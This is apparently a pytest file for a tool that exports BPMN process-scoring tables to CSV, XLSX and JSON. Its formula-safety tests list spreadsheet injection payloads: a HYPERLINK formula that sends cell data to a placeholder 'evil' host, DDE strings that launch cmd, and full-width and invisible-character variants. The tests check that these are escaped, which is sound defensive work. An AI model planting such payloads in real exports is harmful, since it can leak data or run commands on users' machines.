"""The step table and its CSV (UTF-8 with BOM), XLSX and JSON writers."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pandas as pd
import pytest

from bpm.errors import RenderError
from bpm.reader import read_bpmn
from scoring.assess import assess
from scoring.features import FEATURES
from scoring.profile import load_profile
from scoring.table import COLUMNS, steps_frame, write_results

DATA = Path(__file__).resolve().parents[1] / "data" / "scoring"


@pytest.fixture(scope="module")
def frame() -> pd.DataFrame:
    return steps_frame(assess([read_bpmn(DATA / "counter.bpmn")], profile=load_profile()))


def test_columns_are_stable_and_complete(frame: pd.DataFrame) -> None:
    assert tuple(frame.columns) == COLUMNS
    for required in ("flow", "file", "step_id", "name", "lane", "kind", "visits", "annual_count",
                     "minutes_per_case", "hours_per_year", "fte", "disposition", "confidence", "reasons_ja",
                     "reasons_en", "data_sources", "saving_yen_per_year", "payback_months", "net_5y_yen", "rank",
                     "score_rpa", "score_outsource", "score_retain", "score_automated", *FEATURES):
        assert required in frame.columns, required
    assert len(frame) == 7  # the seven tasks of counter.bpmn
    row = frame.set_index("step_id").loc["T_Input"]
    assert row["flow"] == "証明書交付テスト" and row["file"] == "counter.bpmn" and row["lane"] == "審査・入力担当"
    assert row["minutes_per_case"] == 6
    assert "minutes_per_case=property" in row["data_sources"]
    assert frame["rank"].dtype == "Int64"
    assert frame["legal_authority"].dtype == bool
    assert frame.set_index("step_id").loc["T_Shinsa", "legal_authority"]


def test_csv_has_a_bom_for_excel(frame: pd.DataFrame, tmp_path: Path) -> None:
    path = write_results(frame, tmp_path / "results.csv")
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    assert "証明書交付テスト".encode() in data
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert list(back.columns) == list(COLUMNS)
    assert back["step_id"].tolist() == frame["step_id"].tolist()


def test_xlsx_round_trip(frame: pd.DataFrame, tmp_path: Path) -> None:
    path = write_results(frame, tmp_path / "out" / "results.XLSX")
    back = pd.read_excel(path, sheet_name="results")
    assert list(back.columns) == list(COLUMNS)
    assert back["name"].tolist() == frame["name"].tolist()


def test_json_records(frame: pd.DataFrame, tmp_path: Path) -> None:
    path = write_results(frame, tmp_path / "results.json")
    text = path.read_text(encoding="utf-8")
    assert "証明書交付テスト" in text and "\\u" not in text and "\\/" not in text
    records = json.loads(text)
    assert [r["step_id"] for r in records] == frame["step_id"].tolist()
    retained = next(r for r in records if r["step_id"] == "T_Shinsa")
    assert retained["rank"] is None and retained["payback_months"] is None
    assert retained["legal_authority"] is True


def test_unknown_suffix_is_a_clear_error(frame: pd.DataFrame, tmp_path: Path) -> None:
    with pytest.raises(RenderError, match=r"unknown results format '\.txt'") as caught:
        write_results(frame, tmp_path / "results.txt")
    assert caught.value.hint is not None and "results.csv" in caught.value.hint
    assert not list(tmp_path.iterdir()), "nothing is written"


# --------------------------------------------------------------------------- formula safety

HOSTILE_CELLS = (
    '=HYPERLINK("http://evil/?x="&A1,"y")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝HYPERLINK(\"http://evil/\")",  # full-width forms, as a Japanese IME types them
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "\ufeff=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
)
FORMULA_STARTS = {"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"}


def _looks_like_formula(cell: str) -> bool:
    """An independent check: the raw first character, or the first after blanks and invisible characters."""
    visible = cell.lstrip(" \u3000\ufeff\u200b\t\r\n")
    return bool(cell) and (cell[0] in FORMULA_STARTS or (bool(visible) and visible[0] in FORMULA_STARTS))


@pytest.fixture(scope="module")
def hostile_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """The counter table with user text replaced by formula attempts (names, lanes, flow, reasons)."""
    hostile = frame.copy()
    for row in range(len(hostile)):
        text = HOSTILE_CELLS[row % len(HOSTILE_CELLS)]
        for column in ("name", "lane", "flow", "reasons_ja", "step_id"):
            hostile.loc[row, column] = HOSTILE_CELLS[(row + len(column)) % len(HOSTILE_CELLS)]
        hostile.loc[row, "reasons_en"] = text
    extra = hostile.iloc[[0] * len(HOSTILE_CELLS)].reset_index(drop=True)
    extra["name"] = list(HOSTILE_CELLS)
    hostile = pd.concat([hostile, extra], ignore_index=True)
    hostile.loc[0, "net_5y_yen"] = -1234.5
    return hostile


def test_csv_cells_never_start_a_formula(hostile_frame: pd.DataFrame, tmp_path: Path) -> None:
    """A step named =HYPERLINK(…) was written unescaped into results.csv, which opens straight in Excel."""
    import csv
    import io

    data = write_results(hostile_frame, tmp_path / "results.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == len(hostile_frame)
    text_columns = [i for i, c in enumerate(header) if not pd.api.types.is_numeric_dtype(hostile_frame[c])]
    for row in body:
        for index in text_columns:
            assert not _looks_like_formula(row[index]), (header[index], row[index])
    names = [row[header.index("name")] for row in body[-len(HOSTILE_CELLS):]]
    assert names == [f"'{text}" for text in HOSTILE_CELLS]  # the text is kept, behind Excel's text marker
    net = header.index("net_5y_yen")
    assert float(body[0][net]) == -1234.5  # numbers stay numbers, minus sign and all


def test_xlsx_text_cells_are_strings_never_formulas(hostile_frame: pd.DataFrame, tmp_path: Path) -> None:
    """The same step became a live formula in results.xlsx."""
    from openpyxl import load_workbook

    sheet = load_workbook(write_results(hostile_frame, tmp_path / "results.xlsx"))["results"]
    header = [cell.value for cell in sheet[1]]
    assert header == list(COLUMNS)
    assert sheet.max_row == len(hostile_frame) + 1
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str) and _looks_like_formula(cell.value):
                assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
    names = [sheet.cell(row=r, column=header.index("name") + 1).value for r in range(2, sheet.max_row + 1)]
    assert names[-len(HOSTILE_CELLS):] == list(HOSTILE_CELLS)  # the exact text, no marker
    net = sheet.cell(row=2, column=header.index("net_5y_yen") + 1)
    assert net.data_type == "n" and net.value == -1234.5
    hours = sheet.cell(row=2, column=header.index("hours_per_year") + 1)
    assert hours.data_type == "n" and isinstance(hours.value, int | float)
    legal = sheet.cell(row=2, column=header.index("legal_authority") + 1)
    assert legal.data_type == "b"


def test_xlsx_keeps_missing_values_empty(frame: pd.DataFrame, tmp_path: Path) -> None:
    back = pd.read_excel(write_results(frame, tmp_path / "results.xlsx"), sheet_name="results")
    retained = back.set_index("step_id").loc["T_Shinsa"]
    assert pd.isna(retained["rank"]) and pd.isna(retained["payback_months"])


def test_an_unwritable_place_is_a_clear_error(frame: pd.DataFrame, tmp_path: Path) -> None:
    """`bpm score --out` into a folder that cannot be made ended in an internal error (exit 3)."""
    (tmp_path / "a-file").write_text("not a folder")
    for target in (tmp_path / "a-file" / "results.csv", Path("/proc/bpm-test/results.xlsx")):
        with pytest.raises(RenderError, match=f"cannot write results to {re.escape(str(target))}: "):
            write_results(frame, target)
